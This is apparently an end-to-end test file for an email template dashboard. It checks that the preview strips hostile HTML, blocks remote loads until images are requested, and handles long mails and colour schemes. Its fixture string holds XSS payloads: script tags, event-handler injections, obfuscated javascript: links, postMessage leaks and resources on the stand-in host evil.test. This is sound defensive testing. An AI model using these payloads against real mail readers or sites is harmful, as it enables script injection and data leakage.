import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { dashboardSession } from '../../support/dashboard-session.ts';

const session = dashboardSession();
const frameOf = (page: Page) => page.getByRole('region', { name: 'Preview' }).frameLocator('iframe');

const hostile = `<html><head>
<style>@import url(https://evil.test/a.css); h1 { color: rgb(1, 2, 3) } body { background: url(https://evil.test/b.png) }</style>
<script>parent.postMessage('stolen', '*'); document.title = 'stolen'</script>
<script src="https://evil.test/c.js"></script><base href="https://evil.test/">
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<link rel="stylesheet" href="https://evil.test/d.css"></head>
<body onload="parent.postMessage('stolen', '*')"><h1 onclick="steal()" title="a>b">Hello {{user.firstName}}</h1>
<img src="https://evil.test/e.png" alt="Remote picture" onerror="parent.postMessage('stolen', '*')"><img src=x onerror=steal()>
<svg onload="steal()"><a xlink:href="javascript:steal()"><text>vector</text></a></svg>
<a id="bad" href="java&#10;script:steal()">Bad</a><a id="good" href="https://shop.test/">Good</a>
<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object><embed src="https://evil.test/">
<form action="https://evil.test/"><input name="a"><button formaction="javascript:steal()">Go</button></form>
<video poster="https://evil.test/f.png" src="https://evil.test/g.mp4"></video></body></html>`;

const create = async (name: string, html: string) => {
  const { client, server } = session;
  const { projectId } = server.demo;
  return client.api.createTemplate({ body: { projectId, name, subject: 'Hostile', html, class: 'transactional' } });
};

test('a mail runs nothing, reaches nobody and is told by no report, until its images are asked for', async () => {
  const { id } = await create('Hostile mail', hostile);
  const page = await session.open('/logs');
  const asked: string[] = [];
  // Whatever it reaches for is answered here: the test must see that it asked, not that a name has no address.
  await page.context().route('**://evil.test/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ status: 200, contentType: 'image/png', body: '' });
  });
  const heard: string[] = [];
  await page.exposeFunction('hear', (text: string) => heard.push(text));
  // In every document that the page loads from now on.
  await page.addInitScript(() => {
    const told = window as unknown as { hear: (text: string) => void };
    // The frame of the mail hears the mail itself.
    if (window.top === window) addEventListener('message', ({ data }) => told.hear(JSON.stringify(data)));
    addEventListener('securitypolicyviolation', ({ blockedURI }) => told.hear(`refused ${blockedURI}`));
  });
  await session.go(page, `/templates/${id}`);
  const frame = frameOf(page);
  await frame.getByRole('heading', { name: 'Hello' }).waitFor();
  // The frame is made anew as long as the preview comes in.
  await expect
    .poll(() => frame.locator('h1').evaluate((element) => getComputedStyle(element).color))
    .toBe('rgb(1, 2, 3)');
  const dangerous =
    '[onclick],[onload],[onerror],script,iframe,object,embed,base,link,[src],[poster],[action],[formaction]';
  expect(await frame.locator(dangerous).evaluateAll((all) => all.map((one) => one.outerHTML.slice(0, 120)))).toEqual(
    [],
  );
  expect(await frame.locator('#bad').getAttribute('href')).toBeNull();
  expect(await page.title()).not.toContain('stolen');
  // Messages are heard, and none of the mail is among them.
  await page.evaluate(() => postMessage('own', '*'));
  await expect.poll(() => heard).toContain('"own"');
  expect(heard.filter((text) => text.includes('stolen') || text.includes('refused'))).toEqual([]);
  expect(asked).toEqual([]);

  await frame.locator('#good').click();
  await page.getByText('Leads to https://shop.test/').waitFor();

  await page.getByRole('button', { name: 'Load images' }).click();
  await expect.poll(() => asked).toContain('https://evil.test/e.png');
  expect(asked.filter((url) => !/\/[bef]\.png$/.test(url))).toEqual([]);
  await page.getByRole('button', { name: 'Hide images' }).click();
  await expect.poll(() => frame.locator('[src]').count()).toBe(0);
});

test('a mail of the longest length is shown, in a frame that scrolls', async () => {
  const row = '<tr><td style="padding: 4px">A row of a very long table</td></tr>';
  const html = `<h1>Long</h1><table>${row.repeat(Math.floor(99_000 / row.length))}</table>`;
  const { id } = await create('Long mail', html);
  const page = await session.open(`/templates/${id}`);
  await frameOf(page).getByRole('heading', { name: 'Long' }).waitFor();
  const box = page.getByRole('region', { name: 'Preview' }).locator('iframe');
  const height = async () => (await box.boundingBox())?.height ?? 0;
  await expect.poll(height).toSatisfy((pixels: number) => pixels > 1_000 && pixels <= 2_100);
});

test('Light and Dark are those that were chosen, whatever the machine prefers', async () => {
  const html = `<style>h1 { color: rgb(9, 9, 9) } @media (prefers-color-scheme: dark) { h1 { color: rgb(250, 250, 250) } }</style><h1>Colours</h1>`;
  const { id } = await create('Colours', html);
  for (const colorScheme of ['light', 'dark'] as const) {
    const page = await session.open(`/templates/${id}`, { colorScheme });
    const heading = frameOf(page).getByRole('heading', { name: 'Colours' });
    const colour = () => heading.evaluate((element) => getComputedStyle(element).color);
    await heading.waitFor();
    await expect.poll(colour).toBe('rgb(9, 9, 9)');
    await page.getByRole('group', { name: 'Colours of the reader' }).getByText('Dark').click();
    await expect.poll(colour).toBe('rgb(250, 250, 250)');
  }
});
